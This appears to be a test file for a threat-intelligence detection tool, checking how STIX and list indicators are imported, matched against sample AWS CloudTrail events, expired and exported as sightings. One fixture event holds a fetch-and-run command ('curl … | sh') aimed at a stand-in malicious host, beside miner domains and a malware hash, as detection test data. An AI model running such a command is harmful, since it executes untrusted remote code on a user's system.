/** `intel …` and `detect --intel`: what a user sees of indicators. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inFolder, runInFolder } from '../testing/index.ts';

const trail = (id: string, minute: number, more: object): object => ({
  ...{ eventVersion: '1.11', eventSource: 's3.amazonaws.com', eventName: 'ListBuckets', eventID: id, awsRegion: 'ap-northeast-1' },
  ...{ eventTime: `2026-11-20T09:${String(minute).padStart(2, '0')}:00Z`, recipientAccountId: '123456789012', eventType: 'AwsApiCall' },
  ...{ sourceIPAddress: '192.0.2.99', userAgent: 'aws-cli/2', readOnly: true, managementEvent: true },
  userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::123456789012:user/alice', userName: 'alice', accessKeyId: 'AKIAEXAMPLEALICE0001' },
  ...more,
});
const log = (...events: readonly object[]): string => JSON.stringify({ Records: events });

const indicator = (number: number, pattern: string, more: object = {}): object => ({
  ...{ type: 'indicator', spec_version: '2.1', id: `indicator--0000000${number}-0000-4000-8000-000000000000`, pattern_type: 'stix' },
  ...{
    created: '2026-11-01T00:00:00Z',
    modified: '2026-11-01T00:00:00Z',
    valid_from: '2026-11-01T00:00:00Z',
    name: `sign ${number}`,
    pattern,
  },
  ...more,
});
const bundle = (...objects: readonly object[]): string => JSON.stringify({ type: 'bundle', id: 'bundle--1', objects });
const ID = (number: number): string => `indicator--0000000${number}-0000-4000-8000-000000000000`;

interface Row {
  readonly ruleId: string;
  readonly level: string;
  readonly eventId: string;
  readonly incidentId: string | null;
  readonly title: string;
  readonly intel: {
    readonly value: string | null;
    readonly tlp: string | null;
    readonly related: readonly string[];
    readonly eventIds?: readonly string[];
    readonly early: boolean;
  };
}
const rowsIn = (text: string): readonly Row[] =>
  text
    .split('\n')
    .filter((line) => line.includes('"intel:'))
    .map((line) => JSON.parse(line) as Row);

const detected = async (folder: string): Promise<readonly Row[]> =>
  rowsIn((await runInFolder(folder, ['detect', 'log.json', '--intel', 'store', '--no-behavior', '--format', 'jsonl'])).stdout);

test('an address of a STIX bundle is found with its level, its marking and who is behind it', async () => {
  const actor = { type: 'threat-actor', id: 'threat-actor--1', name: 'Night Heron' };
  const relation = {
    type: 'relationship',
    id: 'relationship--1',
    relationship_type: 'indicates',
    source_ref: ID(1),
    target_ref: 'threat-actor--1',
  };
  const marked = { confidence: 85, object_marking_refs: ['marking-definition--55d920b0-5e8b-4f79-9ee9-91f868d9b421'] };
  const files = {
    'feed.json': bundle(indicator(1, "[ipv4-addr:value = '203.0.113.5']", marked), actor, relation),
    'log.json': log(trail('e-1', 1, { sourceIPAddress: '203.0.113.5' }), trail('e-2', 2, {})),
  };
  await inFolder(files, async (folder) => {
    const imported = await runInFolder(folder, ['intel', 'import', 'feed.json', '--store', 'store', '--trust']);
    assert.match(imported.stdout, /1 added, 0 updated/);
    const [row, ...more] = await detected(folder);
    assert.deepEqual(more, []);
    assert.deepEqual([row?.ruleId, row?.level, row?.eventId, row?.title], [`intel:${ID(1)}`, 'high', 'e-1', 'sign 1: 203.0.113.5']);
    assert.deepEqual([row?.intel.value, row?.intel.tlp, row?.intel.related], ['203.0.113.5', 'amber', ['threat-actor: Night Heron']]);
    assert.notEqual(row?.incidentId, null);
  });
});

test('a value on a warning list is kept and not looked for, unless it is trusted', async () => {
  const files = { 'list.txt': '203.0.113[.]5\n', 'log.json': log(trail('e-1', 1, { sourceIPAddress: '203.0.113.5' })) };
  await inFolder(files, async (folder) => {
    const imported = await runInFolder(folder, ['intel', 'import', 'list.txt', '--store', 'store']);
    assert.match(imported.stdout, /1 value stands on a warning list/);
    assert.deepEqual(await detected(folder), []);
    await runInFolder(folder, ['intel', 'import', 'list.txt', '--store', 'store', '--trust']);
    assert.equal((await detected(folder)).length, 1);
  });
});

test('the newest version wins, whatever comes last, and what was revoked goes', async () => {
  const newer = { modified: '2026-11-10T00:00:00Z' };
  const files = {
    'new.json': bundle(indicator(1, "[domain-name:value = 'new.test']", newer)),
    'old.json': bundle(indicator(1, "[domain-name:value = 'old.test']")),
    'gone.json': bundle(indicator(1, "[domain-name:value = 'new.test']", { modified: '2026-11-12T00:00:00Z', revoked: true })),
  };
  await inFolder(files, async (folder) => {
    const list = async (): Promise<string> => (await runInFolder(folder, ['intel', 'list', '--store', 'store'])).stdout;
    await runInFolder(folder, ['intel', 'import', 'new.json', '--store', 'store']);
    const again = await runInFolder(folder, ['intel', 'import', 'old.json', 'new.json', '--store', 'store']);
    assert.match(again.stdout, /0 added, 0 updated, 2 unchanged/);
    assert.match(await list(), /new\.test/);
    assert.match((await runInFolder(folder, ['intel', 'import', 'gone.json', '--store', 'store'])).stdout, /1 revoked; the store holds 0/);
    assert.doesNotMatch(await list(), /new\.test/);
  });
});

test('an indicator that had run out when the event happened is no match; one told afterwards is, a level lower', async () => {
  const files = {
    'feed.json': bundle(
      indicator(1, "[ipv4-addr:value = '203.0.113.5']", { valid_until: '2026-11-15T00:00:00Z' }),
      indicator(2, "[ipv4-addr:value = '203.0.113.6']", { valid_from: '2026-11-21T00:00:00Z', confidence: 90 }),
    ),
    'log.json': log(trail('e-1', 1, { sourceIPAddress: '203.0.113.5' }), trail('e-2', 2, { sourceIPAddress: '203.0.113.6' })),
  };
  await inFolder(files, async (folder) => {
    await runInFolder(folder, ['intel', 'import', 'feed.json', '--store', 'store', '--trust']);
    const rows = await detected(folder);
    assert.deepEqual(
      rows.map(({ eventId, level, intel }) => [eventId, level, intel.early]),
      [['e-2', 'medium', true]],
    );
    const expired = await runInFolder(folder, ['intel', 'expire', '--store', 'store', '--apply']);
    assert.match(expired.stdout, /1 indicator removed, 1 left/);
  });
});

test('a pattern of several events is one match that names them', async () => {
  const pattern =
    "([ipv4-addr:value = '203.0.113.5'] FOLLOWEDBY [ipv4-addr:value = '203.0.113.6' AND user-account:user_id LIKE '%alice']) WITHIN 300 SECONDS";
  const events = [
    trail('early', 1, { sourceIPAddress: '203.0.113.6' }),
    trail('a', 10, { sourceIPAddress: '203.0.113.5' }),
    trail('b', 12, { sourceIPAddress: '203.0.113.6' }),
    trail('late', 40, { sourceIPAddress: '203.0.113.6' }),
  ];
  await inFolder({ 'feed.json': bundle(indicator(1, pattern)), 'log.json': log(...events) }, async (folder) => {
    await runInFolder(folder, ['intel', 'import', 'feed.json', '--store', 'store']);
    const rows = await detected(folder);
    assert.deepEqual(
      rows.map(({ eventId, intel }) => [eventId, intel.eventIds]),
      [['b', ['a', 'b']]],
    );
  });
});

test('names, URLs, hashes and keys are found where records hide them', async () => {
  const files = {
    'list.csv':
      'indicator,confidence,tlp\nhxxps://payload[.]evil-cdn.test/run.sh,90,TLP:RED\nminer.test,80,green\n44d88612fea8a8f36de82e1278abb02f,20,\nAKIAEXAMPLEMALLORY01,60,\n',
    'log.json': log(
      trail('url', 1, { requestParameters: { userData: 'curl -s https://payload.evil-cdn.test/run.sh | sh' } }),
      trail('name', 2, { requestParameters: { endpoint: 'pool.miner.test' } }),
      trail('hash', 3, { requestParameters: { layers: [{ digest: '44D88612FEA8A8F36DE82E1278ABB02F' }] } }),
      trail('key', 4, { userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::123456789012:user/m', accessKeyId: 'AKIAEXAMPLEMALLORY01' } }),
    ),
  };
  await inFolder(files, async (folder) => {
    await runInFolder(folder, ['intel', 'import', 'list.csv', '--store', 'store']);
    const rows = await detected(folder);
    assert.deepEqual(
      rows.map(({ eventId, level, intel }) => [eventId, level, intel.tlp]),
      [
        ['url', 'high', 'red'],
        ['name', 'high', 'green'],
        ['hash', 'low', null],
        ['key', 'medium', null],
      ],
    );
  });
});

test('what is wrong is named, and the rest is imported', async () => {
  const files = {
    'mixed.json': bundle(
      indicator(1, "[ipv4-addr:value = '203.0.113.5'"),
      indicator(2, "[process:command_line = 'x']"),
      indicator(3, "[domain-name:value = 'ok.test']"),
      { type: 'indicator' },
    ),
    'evil.ioc': '<!DOCTYPE x [<!ENTITY a "b">]><ioc id="x">&a;</ioc>',
    'half.json': '{"type": "bundle", "objects": [',
  };
  await inFolder(files, async (folder) => {
    const run = await runInFolder(folder, ['intel', 'import', '.', '--store', 'store', '--format', 'json']);
    const { total, diagnostics } = JSON.parse(run.stdout) as { total: number; diagnostics: readonly { code: string; message: string }[] };
    assert.equal(total, 1);
    assert.deepEqual(diagnostics.map(({ code }) => code).toSorted(), [
      ...['intel-entities', 'intel-invalid-object', 'intel-invalid-pattern', 'intel-not-json', 'intel-unsupported-pattern'],
    ]);
    assert.ok(diagnostics.some(({ message }) => message.includes('process:command_line')));
  });
});

test('indicators that come later find what the lake has seen, and only new ones are asked with --new', async () => {
  const files = {
    'log.json': log(trail('e-1', 1, { sourceIPAddress: '203.0.113.5' }), trail('e-2', 2, {})),
    'first.txt': '203.0.113.0/28\n',
    'second.txt': '192.0.2.99\n',
  };
  await inFolder(files, async (folder) => {
    const ids = (run: { readonly stdout: string }): readonly string[] => rowsIn(run.stdout).map(({ eventId }) => eventId);
    assert.equal((await runInFolder(folder, ['lake', 'ingest', 'log.json', '--lake', 'lake'])).exitCode, 0);
    await runInFolder(folder, ['intel', 'import', 'first.txt', '--store', 'store', '--trust']);
    const hunt = ['intel', 'hunt', '--store', 'store', '--lake', 'lake', '--format', 'jsonl'];
    const first = await runInFolder(folder, hunt, { now: () => new Date('2026-11-22T10:00:00Z') });
    assert.deepEqual([ids(first), first.exitCode, first.stderr], [['e-1'], 1, '']);
    const later = { now: () => new Date('2026-11-23T09:00:00Z') };
    await runInFolder(folder, ['intel', 'import', 'second.txt', '--store', 'store', '--trust'], later);
    assert.deepEqual(ids(await runInFolder(folder, [...hunt, '--new'], later)), ['e-2']);
  });
});

test('what was seen goes back as sightings, the same bundle for the same matches', async () => {
  const files = {
    'feed.json': bundle(
      indicator(1, "[ipv4-addr:value = '203.0.113.5']", {
        object_marking_refs: ['marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1'],
      }),
    ),
    'list.txt': 'miner.test\n',
    'log.json': log(
      trail('e-1', 1, { sourceIPAddress: '203.0.113.5' }),
      trail('e-2', 5, { sourceIPAddress: '203.0.113.5', requestParameters: { endpoint: 'pool.miner.test' } }),
    ),
  };
  await inFolder(files, async (folder) => {
    await runInFolder(folder, ['intel', 'import', 'feed.json', 'list.txt', '--store', 'store', '--trust']);
    await runInFolder(folder, ['detect', 'log.json', '--intel', 'store', '--no-behavior', '--format', 'jsonl', '--output', 'found.jsonl']);
    const exported = await runInFolder(folder, ['intel', 'export', 'found.jsonl', '--format', 'stix']);
    const { objects } = JSON.parse(exported.stdout) as { objects: readonly Readonly<Record<string, unknown>>[] };
    const sightings = objects.filter(({ type }) => type === 'sighting');
    const first = sightings.find((each) => each['sighting_of_ref'] === ID(1));
    assert.deepEqual(
      [first?.['count'], first?.['first_seen'], first?.['last_seen'], first?.['object_marking_refs']],
      [2, '2026-11-20T09:01:00.000Z', '2026-11-20T09:05:00.000Z', ['marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1']],
    );
    assert.equal(sightings.length, 2);
    assert.equal(objects.find(({ type }) => type === 'indicator')?.['pattern'], "[domain-name:value = 'miner.test']");
    assert.equal((await runInFolder(folder, ['intel', 'export', 'found.jsonl'])).stdout, exported.stdout);
    const again = await runInFolder(folder, ['intel', 'export', 'log.json']);
    assert.equal(again.exitCode, 2);
  });
});
